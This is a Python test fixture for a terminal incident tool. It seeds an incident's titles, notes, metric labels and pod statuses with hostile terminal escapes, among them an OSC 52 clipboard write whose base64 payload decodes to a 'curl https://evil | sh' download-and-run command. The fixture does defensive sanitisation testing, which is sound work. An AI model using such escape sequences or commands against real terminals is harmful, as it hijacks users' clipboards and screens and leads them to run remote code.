"""An incident whose every outside text carries terminal escapes: an OSC 52
clipboard write, a screen clear, a bell, a C1 control and a right-to-left
override (issue 23, item 4)."""

from __future__ import annotations

import math
from datetime import timedelta
from pathlib import Path

from tests.conftest import PEAK
from tests.factories import make_pod_row
from tui.model.clock import FrozenClock
from tui.model.incident import IncidentDraft
from tui.model.metrics import MetricSnapshot, PaneSpec, QuerySpec, Series, Unit
from tui.model.timeline import EntryKind
from tui.store import Store, open_database

OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwgfCBzaA==\x07"
CLEAR = "\x1b[2J"
RTL = "\u202e"
C1 = "\x9b"  # CSI as one byte
HOSTILE = f"{OSC52}{CLEAR}\x07{RTL}{C1}"
RAW = ("\x1b", "\x07", RTL, C1)


def hostile_incident(db: Path) -> str:
    """Every kind of outside text an export carries, each with escapes."""
    store = Store(open_database(db), FrozenClock(PEAK))
    incident = store.incidents.declare(IncidentDraft(f"Checkout down{HOSTILE}", "P1",
                                           services=(f"checkout{HOSTILE}",)), "ana")
    store.timeline.add(incident.id, f"note{HOSTILE}", EntryKind.NOTE, author="bo",
                    at=PEAK - timedelta(minutes=3))
    spec = PaneSpec(id="errors", title=f"Errors{HOSTILE}", unit=Unit.RATIO,
                    queries=(QuerySpec("sum(rate(x[5m]))", "5xx"),))
    base = PEAK.timestamp()
    store.archives.save_metric_snapshot(incident.id, spec, MetricSnapshot(
        "errors", (Series(f"5xx{HOSTILE}", (("service", "checkout"),), (base - 60, base),
                          (0.25, math.nan)),), PEAK, 900, (), 60))
    store.archives.save_pod_changes(incident.id, PEAK - timedelta(minutes=10),
                           [make_pod_row("checkout-1", status=f"Error{HOSTILE}")], [])
    store.comms.save_review_note(incident.id, "lessons", f"lesson{HOSTILE}", "ana")
    store.close()
    return incident.id
